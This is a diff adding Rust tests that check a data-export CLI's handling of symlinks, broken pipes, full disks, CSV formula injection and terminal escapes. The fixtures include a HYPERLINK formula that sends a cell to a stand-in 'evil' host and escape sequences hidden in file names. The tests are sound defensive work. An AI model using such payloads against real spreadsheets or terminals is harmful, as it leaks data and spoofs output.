@@ -393,3 +393,478 @@ fn a_missing_data_file_is_named_in_the_error() {
         describe(&relative)
     );
 }
+
+// ---------------------------------------------------------------------------
+// Issue 9 (hostile conditions) and issue 13 (help, completions, man page).
+
+/// A valid data file built around the given TOML fragments.
+const PROBE: &str = r#"format = 1
+
+[dataset]
+title = "Probe"
+subject = "Probe Co"
+as_of = 2025-11-03
+
+[[sources]]
+id = "report"
+title = "A report"
+
+[[providers]]
+id = "cloud"
+name = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")"
+parent = "@SUM(A1)"
+kind = "hyperscaler"
+hardware = ["-2+3", "+1"]
+summary = "line one\rline two"
+
+[[commitments]]
+id = "deal"
+provider = "cloud"
+value = "$1bn"
+status = "signed"
+
+[[notes]]
+subject = "Probe Co"
+kind = "stock"
+headline = "Down"
+change = "-3%"
+body = "\tfirst\rsecond"
+"#;
+
+fn probe_file(stem: &str) -> TempPath {
+    let file = TempPath::new(stem);
+    std::fs::write(file.path(), PROBE).unwrap();
+    let out = run(&["check", file.arg()]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    file
+}
+
+/// A scratch folder, removed on drop.
+struct TempDir(PathBuf);
+
+impl TempDir {
+    fn new(stem: &str) -> TempDir {
+        let dir = TempPath::new(stem).0.with_extension("d");
+        std::fs::create_dir(&dir).unwrap();
+        TempDir(dir)
+    }
+}
+
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+fn no_controls(s: &str) -> bool {
+    !s.chars().any(|c| c.is_control() && c != '\n')
+}
+
+// 9.12: init and symlinks.
+
+#[cfg(unix)]
+#[test]
+fn init_force_does_not_overwrite_a_symlinks_target() {
+    let dir = TempDir::new("init-link");
+    let target = dir.0.join("target.toml");
+    let link = dir.0.join("link.toml");
+    std::fs::write(&target, "mine\n").unwrap();
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    let out = run(&["init", "--force", link.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
+    assert!(stderr(&out).contains("symbolic link"), "{}", describe(&out));
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "mine\n");
+    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
+}
+
+#[cfg(unix)]
+#[test]
+fn init_does_not_follow_a_dangling_symlink() {
+    let dir = TempDir::new("init-dangling");
+    let target = dir.0.join("nowhere.toml");
+    let link = dir.0.join("link.toml");
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    for args in [vec!["init"], vec!["init", "--force"]] {
+        let mut args = args;
+        args.push(link.to_str().unwrap());
+        let out = run(&args);
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", describe(&out));
+        assert!(!target.exists(), "{args:?} created the link's target");
+        assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
+    }
+}
+
+#[test]
+fn init_refuses_a_folder_and_leaves_no_temporary_files() {
+    let dir = TempDir::new("init-folder");
+    let out = run(&["init", "--force", dir.0.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
+    assert!(dir.0.is_dir());
+    // A successful init leaves exactly the file it names.
+    let file = dir.0.join("new.toml");
+    let out = run(&["init", file.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    let out = run(&["init", "--force", file.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    let names: Vec<_> = std::fs::read_dir(&dir.0)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(names, ["new.toml"]);
+}
+
+// 9.14: CSV formula injection.
+
+#[test]
+fn csv_cells_that_look_like_formulas_are_neutralised_unless_raw() {
+    let file = probe_file("formula");
+    let providers = run(&["export", "providers", "--data", file.arg()]);
+    assert_eq!(providers.status.code(), Some(0), "{}", describe(&providers));
+    let text = stdout(&providers);
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[1], "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
+    assert_eq!(&row[2], "'@SUM(A1)");
+    assert_eq!(&row[4], "'-2+3; +1");
+    // Numeric columns stay numbers.
+    assert_eq!(&row[6], "1000000000");
+
+    let notes = run(&["export", "notes", "--data", file.arg()]);
+    let text = stdout(&notes);
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[10], "'\tfirst\rsecond");
+    assert_eq!(&row[4], "-3", "a negative number is not a formula");
+
+    // JSON and Markdown are not spreadsheets: left as they are.
+    let json = run(&[
+        "export",
+        "providers",
+        "--data",
+        file.arg(),
+        "--format",
+        "json",
+    ]);
+    let json: serde_json::Value = serde_json::from_str(&stdout(&json)).unwrap();
+    assert_eq!(json[0]["parent"], "@SUM(A1)");
+
+    let raw = run(&["export", "providers", "--data", file.arg(), "--raw"]);
+    assert_eq!(raw.status.code(), Some(0), "{}", describe(&raw));
+    let text = stdout(&raw);
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[1], "=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
+    assert_eq!(&row[2], "@SUM(A1)");
+}
+
+// 9.15: broken pipes and full disks.
+
+/// A valid file with `n` commitments: its export is far larger than a pipe's buffer.
+fn big_file(n: usize) -> TempPath {
+    let file = TempPath::new("big");
+    let mut text = String::from(
+        "format = 1\n[dataset]\ntitle = \"Big\"\nsubject = \"Big Co\"\nas_of = 2025-11-03\n\
+         [[sources]]\nid = \"report\"\ntitle = \"A report\"\n\
+         [[providers]]\nid = \"cloud\"\nname = \"Cloud\"\nkind = \"hyperscaler\"\n",
+    );
+    for i in 0..n {
+        text.push_str(&format!(
+            "[[commitments]]\nid = \"deal-{i}\"\nprovider = \"cloud\"\nvalue = \"about ${i}bn\"\n\
+             status = \"signed\"\nsource = \"report\"\nat = \"para {i}\"\n"
+        ));
+    }
+    std::fs::write(file.path(), text).unwrap();
+    file
+}
+
+#[test]
+fn export_into_a_closed_pipe_ends_quietly_with_status_0() {
+    use std::io::{BufRead, BufReader};
+    let file = big_file(5000);
+    for format in ["csv", "json", "markdown"] {
+        let mut child = Command::new(BIN)
+            .args([
+                "export",
+                "commitments",
+                "--data",
+                file.arg(),
+                "--format",
+                format,
+            ])
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        // `| head -1`: read one line, then close the pipe.
+        let mut first = String::new();
+        BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut first)
+            .unwrap();
+        assert!(!first.is_empty(), "{format}");
+        let out = child.wait_with_output().unwrap();
+        assert_eq!(out.status.code(), Some(0), "{format}: {}", describe(&out));
+        assert!(stderr(&out).is_empty(), "{format}: {}", describe(&out));
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_full_stdout_is_an_error_never_a_panic() {
+    let full = || {
+        std::fs::OpenOptions::new()
+            .write(true)
+            .open("/dev/full")
+            .expect("/dev/full")
+    };
+    let dir = TempDir::new("full");
+    let new = dir.0.join("new.toml");
+    let cases: [Vec<&str>; 4] = [
+        vec!["check", "data/openai-compute.toml"],
+        vec!["export", "commitments"],
+        vec!["export", "derived", "--format", "json"],
+        vec!["init", new.to_str().unwrap()],
+    ];
+    for args in cases {
+        let out = Command::new(BIN)
+            .args(&args)
+            .current_dir(ROOT)
+            .stdin(std::process::Stdio::null())
+            .stdout(full())
+            .output()
+            .unwrap();
+        let err = stderr(&out);
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
+        assert!(!err.contains("panicked"), "{args:?}: {err}");
+        assert!(err.contains("No space left on device"), "{args:?}: {err}");
+    }
+}
+
+// 9.16: user-controlled names are escaped.
+
+#[test]
+fn file_names_with_control_characters_are_escaped_in_messages() {
+    let dir = TempDir::new("osc");
+    let file = dir.0.join("x\u{1b}]0;PWN\u{7}.toml");
+    let arg = file.to_str().unwrap();
+    for args in [
+        vec!["init", arg],
+        vec!["check", arg],
+        vec!["init", arg],
+        vec!["export", "notes", "--data", arg],
+    ] {
+        let out = run(&args);
+        assert!(
+            no_controls(&stdout(&out)) && no_controls(&stderr(&out)),
+            "{args:?}: {:?}",
+            describe(&out)
+        );
+        assert!(
+            format!("{}{}", stdout(&out), stderr(&out)).contains("PWN") || args[0] == "export",
+            "{args:?}: {}",
+            describe(&out)
+        );
+    }
+    let missing = dir.0.join("gone\u{1b}[2J.toml");
+    let out = run(&["check", missing.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
+}
+
+// 9.17: small ones.
+
+#[test]
+fn a_carriage_return_in_prose_does_not_break_markdown_rows() {
+    let file = probe_file("cr");
+    for table in ["providers", "notes"] {
+        let out = run(&[
+            "export",
+            table,
+            "--data",
+            file.arg(),
+            "--format",
+            "markdown",
+        ]);
+        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+        let text = stdout(&out);
+        assert!(!text.contains('\r'), "{text:?}");
+        let lines: Vec<&str> = text.lines().collect();
+        assert_eq!(lines.len(), 3, "{text}");
+    }
+    let notes = run(&[
+        "export",
+        "notes",
+        "--data",
+        file.arg(),
+        "--format",
+        "markdown",
+    ]);
+    assert!(
+        stdout(&notes).contains("first second"),
+        "{}",
+        stdout(&notes)
+    );
+}
+
+#[test]
+fn a_derived_date_past_9999_is_written_without_a_sign() {
+    let file = TempPath::new("y10k");
+    let text = PROBE
+        .replace("as_of = 2025-11-03", "as_of = 9999-12-31")
+        .replace(
+            "[[notes]]",
+            "[capacity]\ntarget = \"30 GW\"\nbuild_rate = \"1 GW per week\"\n\n[[notes]]",
+        );
+    std::fs::write(file.path(), text).unwrap();
+    for format in ["csv", "json", "markdown"] {
+        let out = run(&[
+            "export",
+            "derived",
+            "--data",
+            file.arg(),
+            "--format",
+            format,
+        ]);
+        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+        let text = stdout(&out);
+        assert!(text.contains("10000-07-28"), "{text}");
+        assert!(!text.contains("+10000"), "{text}");
+    }
+}
+
+#[test]
+fn init_refuses_a_subject_that_would_fail_check() {
+    for subject in ["Evil\u{1b}]0;PWN\u{7}Co", "Two\nLines", "Del\u{7f}Co"] {
+        let file = TempPath::new("init-evil-subject");
+        let out = run(&["init", file.arg(), "--subject", subject]);
+        assert_eq!(
+            out.status.code(),
+            Some(2),
+            "{subject:?}: {}",
+            describe(&out)
+        );
+        assert!(stderr(&out).contains("--subject"), "{}", describe(&out));
+        assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
+        assert!(!file.path().exists(), "{subject:?}");
+    }
+}
+
+// 13.8: help, version and exit codes.
+
+#[test]
+fn init_help_does_not_offer_data() {
+    let out = run(&["init", "--help"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    assert!(!stdout(&out).contains("--data"), "{}", stdout(&out));
+    // Given anyway, it is a usage error, not silently ignored.
+    let file = TempPath::new("init-data");
+    let out = run(&["--data", "data/openai-compute.toml", "init", file.arg()]);
+    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
+    assert!(!file.path().exists());
+}
+
+#[test]
+fn export_help_lists_tables_and_formats() {
+    let out = run(&["export", "--help"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    let help = stdout(&out);
+    for word in [
+        "providers",
+        "commitments",
+        "milestones",
+        "notes",
+        "derived",
+        "csv",
+        "json",
+        "markdown",
+        "--raw",
+        "--data",
+    ] {
+        assert!(help.contains(word), "{word} missing from\n{help}");
+    }
+    let out = run(&["export", "nosuch"]);
+    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
+    assert!(stderr(&out).contains("commitments"), "{}", describe(&out));
+}
+
+#[test]
+fn version_and_usage_errors() {
+    let out = run(&["--version"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    assert_eq!(
+        stdout(&out).trim(),
+        format!("gigawatt {}", env!("CARGO_PKG_VERSION"))
+    );
+    for args in [
+        vec!["--nosuch"],
+        vec!["check", "a", "b"],
+        vec!["init"],
+        vec!["export", "commitments", "--format", "xml"],
+        vec!["export", "x\u{1b}]0;PWN\u{7}"],
+    ] {
+        let out = run(&args);
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", describe(&out));
+        assert!(no_controls(&stderr(&out)), "{:?}", stderr(&out));
+    }
+    // The data flag works before and after the command.
+    let before = run(&["--data", "data/openai-compute.toml", "export", "notes"]);
+    let after = run(&["export", "notes", "--data", "data/openai-compute.toml"]);
+    assert_eq!(before.status.code(), Some(0), "{}", describe(&before));
+    assert_eq!(stdout(&before), stdout(&after));
+    let check = run(&["check", "--data", "data/openai-compute.toml"]);
+    assert_eq!(check.status.code(), Some(0), "{}", describe(&check));
+}
+
+// 13.11: completions and the man page.
+
+#[test]
+fn bash_accepts_the_completion_script() {
+    let out = run(&["completions", "bash"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    let script = TempPath::new("completion");
+    std::fs::write(script.path(), &out.stdout).unwrap();
+    let bash = Command::new("bash")
+        .arg("-n")
+        .arg(script.path())
+        .output()
+        .expect("bash");
+    assert!(bash.status.success(), "{}", describe(&bash));
+    assert!(stdout(&out).contains("commitments"));
+    for shell in ["zsh", "fish", "powershell"] {
+        let out = run(&["completions", shell]);
+        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+        assert!(stdout(&out).contains("gigawatt"), "{shell}");
+    }
+}
+
+#[test]
+fn the_man_page_renders() {
+    let out = run(&["man"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    let roff = stdout(&out);
+    assert!(roff.contains(".TH gigawatt 1"), "{roff}");
+    for section in [".SH NAME", ".SH SYNOPSIS", ".SH SUBCOMMANDS", ".SH VERSION"] {
+        assert!(roff.contains(section), "{section} missing from\n{roff}");
+    }
+    assert!(roff.contains("export"), "{roff}");
+    // With man installed, it renders as a page.
+    let Ok(mut man) = Command::new("man")
+        .args(["-l", "-"])
+        .env("MANPAGER", "cat")
+        .env("PAGER", "cat")
+        .env("MANWIDTH", "80")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+    else {
+        return;
+    };
+    use std::io::Write as _;
+    man.stdin.take().unwrap().write_all(&out.stdout).unwrap();
+    let page = man.wait_with_output().unwrap();
+    assert!(page.status.success(), "{}", describe(&page));
+    let text = stdout(&page);
+    assert!(text.contains("NAME"), "{text}");
+    assert!(text.contains("gigawatt"), "{text}");
+}
